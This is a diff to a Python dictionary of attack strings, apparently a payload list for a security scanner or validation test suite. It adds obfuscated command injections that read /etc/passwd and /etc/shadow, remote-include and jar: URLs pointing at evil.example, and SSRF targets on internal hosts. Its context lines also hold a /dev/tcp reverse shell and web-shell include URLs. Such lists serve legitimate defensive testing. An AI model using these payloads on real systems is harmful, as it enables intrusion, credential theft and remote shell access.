@@ -92,6 +92,8 @@ ATTACKS: dict[str, list[str]] = {
         "; bash -i >& /dev/tcp/203.0.113.4/9001 0>&1",
         "x; chmod +x /tmp/a; /tmp/a",
         "|| cmd.exe /c whoami",
+        ";/???/??t /???/p??s??",
+        "| /b?n/c?t /e[t]c/shadow",
     ],
     "code_injection": [
         "process.binding('spawn_sync').spawn({file: 'id'})",
@@ -178,6 +180,8 @@ ATTACKS: dict[str, list[str]] = {
         "\\\\files.evil.example\\share\\c99.php",
         "https://evil.example/r57.txt%00",
         "ftp://evil.example/inc/shell.txt\\0",
+        "netdoc:///etc/passwd",
+        "jar:http://evil.example/payload.jar!/",
     ],
     "ssrf": [
         "http://127。0。0。1/",
@@ -194,6 +198,9 @@ ATTACKS: dict[str, list[str]] = {
         "http://[::1]:22/",
         "http://[0:0:0:0:0:ffff:7f00:1]/",
         "http://2130706433/admin",
+        "http://printer.local/admin",
+        "https://git.corp/api/v4/projects",
+        "http://nas.home.arpa:5000/",
         "http://0x7f000001/",
         "http://017700000001/",
         "http://127.1/",
